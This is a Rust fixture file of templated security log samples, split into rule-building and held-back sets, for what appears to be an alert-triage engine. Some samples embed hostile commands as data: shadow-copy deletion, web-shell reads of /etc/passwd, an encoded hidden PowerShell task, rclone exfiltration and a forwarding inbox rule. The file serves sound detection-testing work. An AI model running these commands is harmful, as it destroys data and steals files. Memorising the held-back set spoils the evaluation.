//! The halves that the first rules were made with.

use vedette_event::ThreatClass::{
    BruteForce, CommandAndControl, DefenseEvasion, DenialOfService, Exfiltration, Exploitation,
    LateralMovement, Malware, Persistence, Phishing, PolicyViolation, PrivilegeEscalation,
    Ransomware, Reconnaissance, WebAttack,
};

use super::{Act, Contained, Expected, Faulty, Human, Story};

/// Looked at while the rules were written.
pub(crate) const BUILT_ON: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "<4>{host} kernel: [81.2] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=22",
            "<4>{host} kernel: [81.9] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=23",
            "<4>{host} kernel: [82.4] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=445",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "[error] [client {ip}] ModSecurity: Access denied with code 403 (phase 2). Matched SQLi at ARGS:id [uri \"/item\"]",
            "[error] [client {ip}] ModSecurity: Access denied with code 403 (phase 2). Matched SQLi at ARGS:q [uri \"/find\"]",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"EventID\":1116,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Trojan:Win32/Sample\",\"User\":\"{user}\"}",
            "{\"EventID\":1117,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Trojan:Win32/Sample\",\"ActionName\":\"Quarantine\",\"ErrorDescription\":\"The operation completed successfully.\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "<38>{host} sshd[811]: Failed password for root from {ip} port 4011 ssh2",
            "<38>{host} sshd[813]: Failed password for root from {ip} port 4012 ssh2",
            "<38>{host} sshd[815]: Failed password for root from {ip} port 4013 ssh2",
            "{host} fail2ban.actions[99]: NOTICE [sshd] Ban {ip}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} amavis[301]: (301-04) Blocked SPAM {DiscardedInbound,Quarantined}, <billing@{domain}> -> <{user}@example.com>, quarantine: spam-a1",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{host} dnsmasq[40]: query[A] a1.{domain} from {lan}",
            "{host} dnsmasq[40]: gravity blocked a1.{domain} is 0.0.0.0",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{\"event_type\":\"alert\",\"src_ip\":\"{ip}\",\"dest_ip\":\"{lan}\",\"alert\":{\"action\":\"blocked\",\"signature\":\"EXPLOIT inbound attempt\"}}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "<38>{host} sshd[811]: Failed password for {user} from {ip} port 4011 ssh2",
            "<38>{host} sshd[813]: Failed password for {user} from {ip} port 4012 ssh2",
            "<38>{host} sshd[815]: Accepted password for {user} from {ip} port 4013 ssh2",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - \"POST /uploads/a1.php HTTP/1.1\" 200 312 \"-\" \"curl/8.1\"",
            "{\"EventID\":1,\"Computer\":\"{host}\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\inetsrv\\\\w3wp.exe\",\"Image\":\"cmd.exe\",\"CommandLine\":\"cmd /c whoami\"}",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{\"EventID\":4688,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"NewProcessName\":\"vssadmin.exe\",\"CommandLine\":\"vssadmin delete shadows /all /quiet\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "date=2026-11-02 devname=\"fw\" type=\"traffic\" srcip={lan} dstip={ip} action=\"accept\" sentbyte=4812290011",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":7045,\"Computer\":\"{host}\",\"ServiceName\":\"kdlqzx\",\"ImagePath\":\"C:\\\\Windows\\\\Temp\\\\kdlqzx.exe\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"EventID\":1116,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Backdoor:Win32/Sample\"}",
            "{\"EventID\":1118,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ActionName\":\"Remove\",\"ErrorDescription\":\"Access is denied. The action failed.\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} filterlog[9]: 76,,,1000,igb1,match,pass,out,4,0x0,,64,9,0,DF,6,tcp,60,{lan},{ip},50211,8443",
            "{host} filterlog[9]: 76,,,1000,igb1,match,pass,out,4,0x0,,64,9,0,DF,6,tcp,60,{lan},{ip},50212,8443",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &["<85>{host} sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"LogonType\":\"3\",\"IpAddress\":\"{lan}\",\"AuthenticationPackageName\":\"NTLM\"}",
            "{\"EventID\":7045,\"Computer\":\"{host}\",\"ServiceName\":\"PSEXESVC\",\"ImagePath\":\"%SystemRoot%\\\\PSEXESVC.exe\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - \"GET /.git/config HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 Nessus\"",
            "{lan} - - \"GET /server-status HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 Nessus\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &[
            "{host} veeamagent: Job Nightly: backup to repository {lan} started",
            "{host} veeamagent: Job Nightly: backup finished successfully, 212 GB transferred",
        ],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "<38>{host} sshd[77]: Accepted publickey for ansible from {lan} port 5512 ssh2: ED25519 SHA256:k3",
            "<85>{host} sudo: ansible : TTY=pts/0 ; PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-x",
        ],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":5007,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"NewValue\":\"SignatureUpdate\\\\EngineVersion\"}",
            "{\"EventID\":2000,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"Message\":\"signature version has been updated\"}",
        ],
    ),
    (
        Expected,
        BruteForce,
        &[
            "<38>{host} sshd[61]: Connection closed by {lan} port 50311 [preauth]",
            "{host} nagios: SERVICE ALERT: {host};ssh;OK;HARD;1;SSH OK - check_ssh from {lan}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-backup\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000071\",\"FailureReason\":\"password has expired\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-backup\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000071\",\"FailureReason\":\"password has expired\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
        ],
    ),
    (
        Faulty,
        DenialOfService,
        &[
            "<4>{host} kernel: nf_conntrack: table full, dropping packet",
            "<4>{host} kernel: nf_conntrack: table full, dropping packet",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &[
            "{host} stunnel: SSL_connect to update.example.com: certificate has expired",
            "{host} stunnel: retrying connection in 60 s",
        ],
    ),
    (
        Faulty,
        Reconnaissance,
        &[
            "{host} snmpd[12]: Authentication failed for {lan}: incorrect community name",
            "{host} snmpd[12]: Authentication failed for {lan}: incorrect community name",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "<38>{host} sshd[77]: Accepted publickey for {user} from {ip} port 5512 ssh2: ED25519 SHA256:k3",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} squid: 812 {lan} TCP_MISS/200 80211 GET http://files.{domain}/report.zip {user}"],
    ),
    (
        Human,
        Persistence,
        &[
            "{\"EventID\":4720,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"b.new\"}",
        ],
    ),
];

/// Not looked at until the rules stood.
pub(crate) const HELD_BACK: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "date=2026-11-03 devname=\"edge\" type=\"traffic\" srcip={ip} dstip={lan} dstport=3389 action=\"deny\" policyid=0",
            "date=2026-11-03 devname=\"edge\" type=\"traffic\" srcip={ip} dstip={lan} dstport=445 action=\"deny\" policyid=0",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "<164>Nov 03 2026 asa : %ASA-4-106023: Deny tcp src outside:{ip}/4412 dst inside:{lan}/23 by access-group \"in\"",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{\"Action\":\"block\",\"ClientIP\":\"{ip}\",\"ClientRequestPath\":\"/wp-admin/install.php\",\"Source\":\"firewallManaged\",\"Description\":\"XSS\"}",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} nginx: [error] 31#0: *7 access forbidden by rule, client: {ip}, server: www, request: \"GET /.env HTTP/1.1\"",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{host} clamd[71]: /srv/upload/a.doc: Doc.Dropper FOUND",
            "{host} clamonacc: /srv/upload/a.doc: moved to '/var/quarantine/a.doc'",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"3\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"3\"}",
            "{\"EventID\":4740,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"Message\":\"A user account was locked out.\"}",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"product\":\"endpoint\",\"type\":\"Event::Endpoint::Threat::CleanedUp\",\"threat\":\"Mal/Gen-A\",\"endpoint\":\"{host}\",\"user\":\"{user}\"}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} postfix/smtpd[88]: NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 Service unavailable; client blocked; from=<a@{domain}> to=<{user}@example.com>",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} snort[5]: [Drop] [**] [1:5500:2] SERVER exploit attempt [**] {TCP} {ip}:5011 -> {lan}:443",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"EventID\":8004,\"Channel\":\"Microsoft-Windows-AppLocker/EXE and DLL\",\"Computer\":\"{host}\",\"User\":\"{user}\",\"Message\":\"%OSDRIVE%\\\\TMP\\\\A.EXE was prevented from running.\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{host} named[4]: client {lan}#5011: rpz QNAME NXDOMAIN rewrite c1.{domain} via c1.{domain}.rpz",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} openvpn[5]: {ip}:4011 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[5]: {ip}:4013 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[5]: {ip}:4015 TLS: Username/Password authentication succeeded for username '{user}'",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"GET /images/s.jsp?cmd=id HTTP/1.1\" 200 57 \"-\" \"python-requests/2.31\"",
            "{ip} - - [03/Nov/2026:02:11:09 +0000] \"GET /images/s.jsp?cmd=cat+/etc/passwd HTTP/1.1\" 200 1822 \"-\" \"python-requests/2.31\"",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":4698,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TaskName\":\"\\\\Updater\",\"TaskContent\":\"powershell -w hidden -enc SQBFAFgA\"}",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} smbd_audit: {user}|{lan}|rename|ok|/share/plan.xlsx|/share/plan.xlsx.locked",
            "{host} smbd_audit: {user}|{lan}|rename|ok|/share/list.docx|/share/list.docx.locked",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{\"EventID\":1,\"Computer\":\"{host}\",\"User\":\"{user}\",\"Image\":\"rclone.exe\",\"CommandLine\":\"rclone copy D:\\\\Finance remote:drop --transfers 16\"}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4728,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"Domain Admins\",\"MemberName\":\"CN=helper2\"}",
            "{\"EventID\":4672,\"Computer\":\"{host}\",\"SubjectUserName\":\"helper2\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"product\":\"av\",\"event\":\"Threat_Event\",\"hostname\":\"{host}\",\"threat_name\":\"Win32/Agent.A\",\"action_taken\":\"unable to clean\",\"username\":\"{user}\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} squid: 61 {lan} TCP_TUNNEL/200 3911 CONNECT c1.{domain}:443 - HIER_DIRECT/{ip}",
            "{host} squid: 61 {lan} TCP_TUNNEL/200 3909 CONNECT c1.{domain}:443 - HIER_DIRECT/{ip}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":1102,\"Channel\":\"Security\",\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"Message\":\"The audit log was cleared.\"}",
        ],
    ),
    (
        Act,
        Phishing,
        &[
            "{\"Workload\":\"Exchange\",\"Operation\":\"New-InboxRule\",\"UserId\":\"{user}@example.com\",\"ClientIP\":\"{ip}\",\"Parameters\":\"ForwardTo x@{domain}; DeleteMessage True\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [03/Nov/2026:01:00:04 +0000] \"GET /phpinfo.php HTTP/1.1\" 404 153 \"-\" \"Qualys WAS scanner\"",
            "{lan} - - [03/Nov/2026:01:00:05 +0000] \"GET /admin/ HTTP/1.1\" 404 153 \"-\" \"Qualys WAS scanner\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} restic[7]: backup of /srv to sftp:{lan}: snapshot 8a1f saved, 41.2 GiB added"],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} puppet-agent[44]: Applied catalog in 12.10 seconds",
            "<38>{host} sshd[79]: Accepted publickey for deploy from {lan} port 5522 ssh2: ED25519 SHA256:p9",
        ],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":19,\"Channel\":\"System\",\"Provider\":\"Microsoft-Windows-WindowsUpdateClient\",\"Computer\":\"{host}\",\"Message\":\"Installation Successful: Windows successfully installed the following update: KB5031356\"}",
        ],
    ),
    (
        Expected,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4662,\"Computer\":\"{host}\",\"SubjectUserName\":\"MSOL_8a1f22\",\"Properties\":\"1131f6aa-9c07-11d1-f79f-00c04fc2d2dc\",\"Message\":\"directory synchronization by Azure AD Connect\"}",
        ],
    ),
    (
        Expected,
        DenialOfService,
        &[
            "{lan} - - [03/Nov/2026:01:00:04 +0000] \"GET /health HTTP/1.1\" 200 2 \"-\" \"ELB-HealthChecker/2.0\"",
            "{lan} - - [03/Nov/2026:01:00:05 +0000] \"GET /health HTTP/1.1\" 200 2 \"-\" \"ELB-HealthChecker/2.0\"",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} slapd[10]: conn=1011 op=0 BIND dn=\"cn=wiki,dc=example\" method=128 from {lan}",
            "{host} slapd[10]: conn=1011 op=0 RESULT tag=97 err=49 text=invalid credentials for service account",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4771,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"::ffff:{lan}\",\"Status\":\"0x25\",\"Message\":\"clock skew too great\"}",
            "{\"EventID\":4771,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"::ffff:{lan}\",\"Status\":\"0x25\",\"Message\":\"clock skew too great\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} radiusd[3]: Received packet from {lan} with invalid Message-Authenticator! (Shared secret is incorrect.)",
            "{host} radiusd[3]: Received packet from {lan} with invalid Message-Authenticator! (Shared secret is incorrect.)",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
        ],
    ),
    (
        Faulty,
        DenialOfService,
        &[
            "{host} haproxy[2]: Server app/web1 is DOWN, reason: Layer4 timeout, check duration: 2001ms",
            "{host} haproxy[2]: backend app has no server available!",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &[
            "{host} rsyslogd: cannot resolve hostname 'old-collector.example.com': Name or service not known",
            "{host} rsyslogd: action 'fwd' suspended, retry in 30 seconds",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"LogonType\":\"10\",\"IpAddress\":\"{ip}\"}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} charon: 09[IKE] peer {ip} authenticated as '{user}' with EAP successful"],
    ),
    (
        Human,
        Persistence,
        &[
            "{host} useradd[911]: new user: name=c.new, UID=1044, GID=1044, home=/home/c.new, shell=/bin/bash",
        ],
    ),
];
